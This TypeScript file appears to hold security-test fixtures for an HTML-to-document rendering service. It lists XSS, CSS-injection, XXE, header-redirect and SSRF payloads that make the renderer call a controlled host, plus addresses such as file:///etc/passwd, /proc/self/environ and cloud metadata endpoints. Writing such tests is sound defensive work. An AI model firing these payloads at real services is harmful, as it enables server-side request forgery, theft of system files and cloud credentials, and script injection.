import type { RenderOptions } from '#schemas/render-options.ts';
import type { Aim } from './attack.ts';
import type { PageAnswer } from './field.ts';

/** Options that are text and could be taken for markup, a style or code. */
export const OPTION_ATTACKS: Readonly<Record<string, (at: Aim) => RenderOptions>> = {
  'css-import': (at) => ({ css: `@import "${at('css')}";` }),
  'css-url': (at) => ({ css: `body{background:url(${at('png')})}` }),
  'css-font': (at) => ({
    css: `@font-face{font-family:f;src:url(${at('woff2')})}*{font-family:f}`,
  }),
  'css-element-end': (at) => ({
    css: `</style><img src="${at('png')}"><script src="${at('js')}"></script>`,
  }),
  'css-code': (at) => ({ css: `'"\`);new Image().src="${at('png')}";//\${fetch('${at('txt')}')}` }),
  'css-line-separator': (at) => ({ css: `\u2028";fetch("${at('txt')}");//` }),
  'css-comment-end': (at) => ({ css: `*/ @import "${at('css')}"; /*` }),
  'watermark-markup': (at) => ({ watermark: `<img src="${at('png')}">`.slice(0, 100) }),
  'watermark-code': (at) => ({ watermark: `'"\`);fetch("${at('txt')}")//`.slice(0, 100) }),
  'wait-for-code': (at) => ({ waitFor: `p"]);fetch("${at('txt')}");//` }),
  'metadata-markup': (at) => ({
    metadata: {
      title: `<img src="${at('png')}">`,
      author: `)/URI(${at('html')})`,
      subject: `</x:xmpmeta><script src="${at('js')}"/>`,
      keywords: [`<!ENTITY e SYSTEM "${at('txt')}">&e;`],
    },
  }),
  'header-counter-markup': (at) => ({ headerHtml: `{{page}}<img src="${at('png')}?{{pages}}">` }),
  'header-style': (at) => ({ headerHtml: `<style>@\\69mport "${at('css')}";</style>{{page}}` }),
  'footer-script': (at) => ({
    footerHtml: `<script src="${at('js')}"></script>{{page}}`,
    pageNumbers: true,
  }),
};

/** Headers of a page that make a browser ask elsewhere. */
export const ANSWER_ATTACKS: Readonly<Record<string, (at: Aim) => PageAnswer>> = {
  refresh: (at) => ({ headers: { refresh: `0;url=${at('html')}` } }),
  'link-preload': (at) => ({
    headers: { link: `<${at('css')}>;rel=preload;as=style, <${at('css')}>;rel=stylesheet` },
  }),
  'link-preconnect': (at) => ({
    headers: { link: `<${at('html')}>;rel=preconnect, <${at('html')}>;rel=prefetch` },
  }),
  'early-hints': (at) => ({ earlyHints: `<${at('css')}>; rel=preload; as=style` }),
  'csp-report': (at) => ({
    headers: {
      'content-security-policy': `img-src 'none'; report-uri ${at('json')}; report-to r`,
      'reporting-endpoints': `r="${at('json', 'https')}"`,
    },
  }),
  'report-to': (at) => ({
    headers: {
      'report-to': JSON.stringify({
        group: 'n',
        max_age: 9_999,
        endpoints: [{ url: at('json', 'https') }],
      }),
      nel: '{"report_to":"n","max_age":9999,"success_fraction":1}',
    },
  }),
  'alt-svc': (at) => ({
    headers: { 'alt-svc': `h2="${new URL(at('html')).host}", h3="${new URL(at('html')).host}"` },
  }),
  'speculation-rules': (at) => ({ headers: { 'speculation-rules': `"${at('json')}"` } }),
  'source-map': (at) => ({ headers: { sourcemap: at('json') } }),
  'proxy-authentication': (at) => ({
    status: 407,
    headers: { 'proxy-authenticate': `Basic realm="${at('html')}"` },
  }),
  redirect: (at) => ({ status: 302, headers: { location: at('html') } }),
  'redirect-permanent': (at) => ({ status: 308, headers: { location: at('html') } }),
  'redirect-file': () => ({ status: 302, headers: { location: 'file:///etc/passwd' } }),
  'redirect-data': (at) => ({
    status: 302,
    headers: { location: `data:text/html,<img src=${at('png')}>` },
  }),
};

/** Not the web at all. */
export const FOREIGN_ADDRESSES = [
  'file:///etc/passwd',
  'file:/proc/self/environ',
  'FILE://localhost/etc/passwd',
  'view-source:file:///etc/passwd',
  'ftp://127.0.0.1/',
  'data:text/html,<iframe src=file:///etc/passwd></iframe>',
  'javascript:document.write(1)',
  'about:blank',
  'about:srcdoc',
  'blob:http://127.0.0.1/1',
  'chrome://version',
  'chrome://net-export',
  'devtools://devtools/bundled/inspector.html',
  'ws://127.0.0.1/',
  'http://169.254.169.254/latest/meta-data/',
  'http://metadata.example/',
  'http://[fd00:ec2::254]/',
  'http://does-not-resolve.example/',
];

/** Values that try to leave the place in a document where they are put. */
export const PAYLOADS: Readonly<Record<string, (at: Aim) => string>> = {
  address: (at) => at('png'),
  image: (at) => `<img src="${at('png')}">`,
  'attribute-end': (at) => `"><img src="${at('png')}">`,
  'attribute-end-single': (at) => `'><img src='${at('png')}'>`,
  handler: (at) => `" onerror="fetch('${at('txt')}')" x="`,
  script: (at) => `<script src="${at('js')}"></script>`,
  svg: (at) => `<svg onload="fetch('${at('txt')}')"><image href="${at('png')}"/></svg>`,
  frame: (at) => `<iframe src="${at('html')}"></iframe>`,
  'script-address': (at) => `javascript:fetch('${at('txt')}')`,
  'data-address': (at) => `data:text/html,<img src=${at('png')}>`,
  'data-svg': (at) =>
    `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg"><image href="${at('png')}"/></svg>`,
  'css-url': (at) => `url(${at('png')})`,
  'css-declaration': (at) => `#fff;background:url(${at('png')})`,
  'css-rule': (at) => `red}*{background:url(${at('png')})}`,
  'style-end': (at) => `</style><link rel=stylesheet href="${at('css')}">`,
  'title-end': (at) => `</title></textarea><img src="${at('png')}">`,
  'comment-end': (at) => `--><img src="${at('png')}"><!--`,
  'escaped-markup': (at) => `&lt;img src="${at('png')}"&gt;`,
  markdown: (at) => `![x](${at('png')}) [x](${at('html')})`,
  mustache: (at) => `{{{<img src="${at('png')}">}}} {{=<% %>=}}<%{x}%>`,
  newline: (at) => `x\r\n\r\n<img src="${at('png')}">`,
  'null-byte': (at) => `\u0000<im\u0000g src="${at('png')}">`,
  'file-address': () => 'file:///etc/passwd',
};
